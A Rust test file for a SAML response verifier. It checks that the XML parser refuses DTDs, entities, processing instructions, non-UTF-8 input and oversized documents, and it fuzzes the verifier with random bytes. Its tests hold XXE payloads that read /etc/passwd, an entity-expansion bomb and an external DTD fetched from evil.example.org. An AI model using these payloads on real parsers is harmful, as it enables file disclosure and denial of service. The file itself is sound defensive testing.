//! Documents that are refused before anything in them is believed, and any input at all.

use std::sync::LazyLock;

use base64::{Engine as _, prelude::BASE64_STANDARD};
use proptest::prelude::*;

use super::identity_provider::{
    NOW, RESPONSE, SIGNER, certificate, expected, metadata, metadata_xml, pkcs8, replaced, response_with,
    signed, verify,
};
use crate::federation::saml::{
    DecryptionKey, ExpectedLogout, Metadata, Refusal,
    key::{Algorithm, Key},
    verify_logout_request, verify_logout_response, verify_response,
    xml::{self, XmlError},
};

fn xml_error(document: &str) -> Option<XmlError> {
    match verify(document) {
        Err(Refusal::Xml(error)) => Some(error),
        _ => None,
    }
}

#[test]
fn a_document_type_is_refused() {
    for document_type in [
        "<!DOCTYPE x>",
        "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example.org/x.dtd\"> %p;]>",
        "<!ENTITY e \"x\">",
    ] {
        let document = format!("{document_type}{}", signed(RESPONSE, "_assertion"));
        assert_eq!(xml_error(&document), Some(XmlError::DocumentType), "{document_type}");
    }
}

#[test]
fn entities_that_are_not_predefined_are_refused() {
    for entity in ["&nbsp;", "&e;", "&#0;", "&#x1F;", "&#xFFFE;", "&", "&amp"] {
        let document = response_with(">staff<", &format!(">{entity}<"));
        assert_eq!(xml_error(&document), Some(XmlError::Malformed), "{entity}");
    }
    // The parser reads a reference to what is no character as U+FFFD, the same wherever it reads.
    let no_characters = response_with(">staff<", ">&#x110000;&#xD800;<");
    let assertion = verify(&signed(&no_characters, "_assertion")).unwrap();
    assert_eq!(&*assertion.attributes[1].values[0], "\u{fffd}\u{fffd}");
    let predefined = response_with(">staff<", ">&lt;&gt;&amp;&apos;&quot;&#65;&#x42;<");
    let assertion = verify(&signed(&predefined, "_assertion")).unwrap();
    assert_eq!(&*assertion.attributes[1].values[0], "<>&'\"AB");
}

#[test]
fn processing_instructions_are_refused() {
    let signed = signed(RESPONSE, "_assertion");
    for document in [
        format!("<?xml-stylesheet href=\"x\"?>{signed}"),
        replaced(&signed, "<saml:Subject>", "<?php x?><saml:Subject>"),
        format!(" <?xml version=\"1.0\"?>{signed}"),
    ] {
        assert_eq!(xml_error(&document), Some(XmlError::ProcessingInstruction));
    }
    for declaration in
        ["<?xml version=\"1.0\" encoding='utf-8'?>\r\n", "\u{feff}<?xml version=\"1.0\"?>", "\u{feff}"]
    {
        assert!(verify(&format!("{declaration}{signed}")).is_ok(), "{declaration}");
    }
}

#[test]
fn other_encodings_than_utf8_are_refused() {
    let signed = signed(RESPONSE, "_assertion");
    let declared = format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{signed}");
    assert_eq!(xml_error(&declared), Some(XmlError::NotUtf8));
    let utf16: Vec<u8> = signed.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for bytes in [utf16, [signed.as_bytes(), b"<!--\xe9-->"].concat()] {
        let encoded = BASE64_STANDARD.encode(bytes);
        let refused = verify_response(&encoded, &metadata(&[SIGNER]), &expected(), None);
        assert!(matches!(refused, Err(Refusal::Xml(_))), "{refused:?}");
    }
}

#[test]
fn depth_elements_attributes_and_namespaces_are_bounded() {
    let nested = |depth| format!("{}{}", "<x>".repeat(depth), "</x>".repeat(depth));
    // The value is in the fifth element.
    let value = |content: &str| response_with(">staff<", &format!(">{content}<"));
    assert!(verify(&signed(&value(&nested(27)), "_assertion")).is_ok());
    let attributes = |count| (0..count).map(|i| format!(" a{i}=''")).collect::<String>();
    let namespaces = |count| (0..count).map(|i| format!(" xmlns:n{i}='urn:{i}'")).collect::<String>();
    assert!(verify(&signed(&value(&format!("<x{}/>", attributes(64))), "_assertion")).is_ok());
    for content in [
        nested(28),
        nested(5_000),
        "<x>".repeat(10_000),
        "<x/>".repeat(4_000),
        "<!---->a".repeat(8_000),
        format!("<x{}/>", attributes(65)),
        format!("<x{0}><y{0}><z{0}/></y></x>", namespaces(60)),
    ] {
        assert_eq!(xml_error(&value(&content)), Some(XmlError::TooLarge), "{}", &content[..20]);
    }
}

#[test]
fn a_large_canonical_text_is_refused() {
    // Each character becomes five.
    let long = format!("<![CDATA[{}]]>", "&".repeat(70_000));
    let response = response_with(">staff<", &format!(">{long}<"));
    assert!(verify(&signed(&response, "_assertion")).is_ok(), "350 kilobytes are within the bounds");
    assert_eq!(xml::decoded(&[b' '; 512 * 1024 + 1], xml::MESSAGE), Err(XmlError::TooLarge));
}

#[test]
fn malformed_documents_are_refused() {
    for document in [
        "",
        "x",
        "<",
        "<a",
        "<a>",
        "</a>",
        "<a></b>",
        "<a/><b/>",
        "<a b=1/>",
        "<a b='<'/>",
        "<a:b/>",
        "<!--",
        "<![CDATA[",
        "<a b='x' b='y'/>",
        "<?xml",
    ] {
        assert!(verify(document).is_err(), "{document}");
        assert!(Metadata::parse(document.as_bytes(), NOW).is_err(), "{document}");
    }
}

static PROVIDER: LazyLock<Metadata> = LazyLock::new(|| metadata(&[SIGNER]));
static CERTIFICATE: LazyLock<Vec<u8>> = LazyLock::new(|| certificate(SIGNER));
static METADATA: LazyLock<String> = LazyLock::new(|| metadata_xml(&[SIGNER]));
static SIGNED: LazyLock<String> = LazyLock::new(|| signed(RESPONSE, "_assertion"));

/// Hands bytes to everything that reads what an identity provider sends.
fn read_everywhere(bytes: &[u8]) -> bool {
    let encoded = BASE64_STANDARD.encode(bytes);
    let provider = &PROVIDER;
    let recipient = pkcs8(SIGNER);
    let key = DecryptionKey { pkcs8: &recipient, entropy: [3; 32] };
    let logout = ExpectedLogout { destination: "https://auth.example.org/saml2/logout", now: NOW };
    let accepted = [
        verify_response(&encoded, provider, &expected(), Some(key)).is_ok(),
        verify_logout_request(&encoded, provider, logout).is_ok(),
        verify_logout_response(&encoded, provider, logout).is_ok(),
    ];
    let _ = Metadata::parse(bytes, NOW);
    accepted.contains(&true)
}

/// Pieces of which documents are made.
const PIECES: [&str; 24] = [
    "<",
    ">",
    "/",
    "</",
    "/>",
    "\"",
    "'",
    "=",
    " ",
    "&",
    ";",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml ",
    "?>",
    "xmlns:a=\"b\" ",
    "xmlns=\"\"",
    "a:b",
    "<saml:Assertion>",
    "<ds:Signature>",
    "é",
    "\r\n",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn no_bytes_are_accepted_or_make_it_panic(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        prop_assert!(!read_everywhere(&bytes));
    }

    #[test]
    fn no_sequence_of_pieces_is_accepted_or_makes_it_panic(
        pieces in prop::collection::vec(prop::sample::select(&PIECES[..]), 0..60),
    ) {
        prop_assert!(!read_everywhere(pieces.concat().as_bytes()));
        let inside = response_with(">staff<", &format!(">{}<", pieces.concat()));
        prop_assert!(!read_everywhere(inside.as_bytes()));
    }

    #[test]
    fn a_changed_response_is_refused_or_says_the_same(
        place in any::<prop::sample::Index>(),
        length in 0_usize..40,
        piece in prop::sample::select(&PIECES[..]),
    ) {
        let response = &*SIGNED;
        let start = place.index(response.len());
        let end = (start + length).min(response.len());
        let changed = [&response.as_bytes()[..start], piece.as_bytes(), &response.as_bytes()[end..]].concat();
        let encoded = BASE64_STANDARD.encode(&changed);
        if let Ok(found) = verify_response(&encoded, &PROVIDER, &expected(), None) {
            let mut original = verify(response).unwrap();
            // The response around the assertion is not signed.
            original.response_id.clone_from(&found.response_id);
            prop_assert_eq!(found, original);
        }
    }

    #[test]
    fn a_changed_certificate_does_not_make_it_panic(
        place in any::<prop::sample::Index>(),
        byte in any::<u8>(),
        length in 0_usize..4,
    ) {
        let mut changed = CERTIFICATE.clone();
        let start = place.index(changed.len());
        let end = (start + length).min(changed.len());
        changed.splice(start..end, [byte]);
        if let Some(key) = Key::of_certificate(&changed) {
            for length in [0, 64, 255, 256, 512] {
                prop_assert!(!key.verifies(Algorithm::RsaSha256, b"message", &vec![byte; length]));
            }
        }
    }

    #[test]
    fn changed_metadata_does_not_make_it_panic(
        place in any::<prop::sample::Index>(),
        piece in prop::sample::select(&PIECES[..]),
    ) {
        let metadata = &*METADATA;
        let at = place.index(metadata.len());
        let changed = [&metadata.as_bytes()[..at], piece.as_bytes(), &metadata.as_bytes()[at..]].concat();
        let _ = Metadata::parse(&changed, NOW);
    }
}
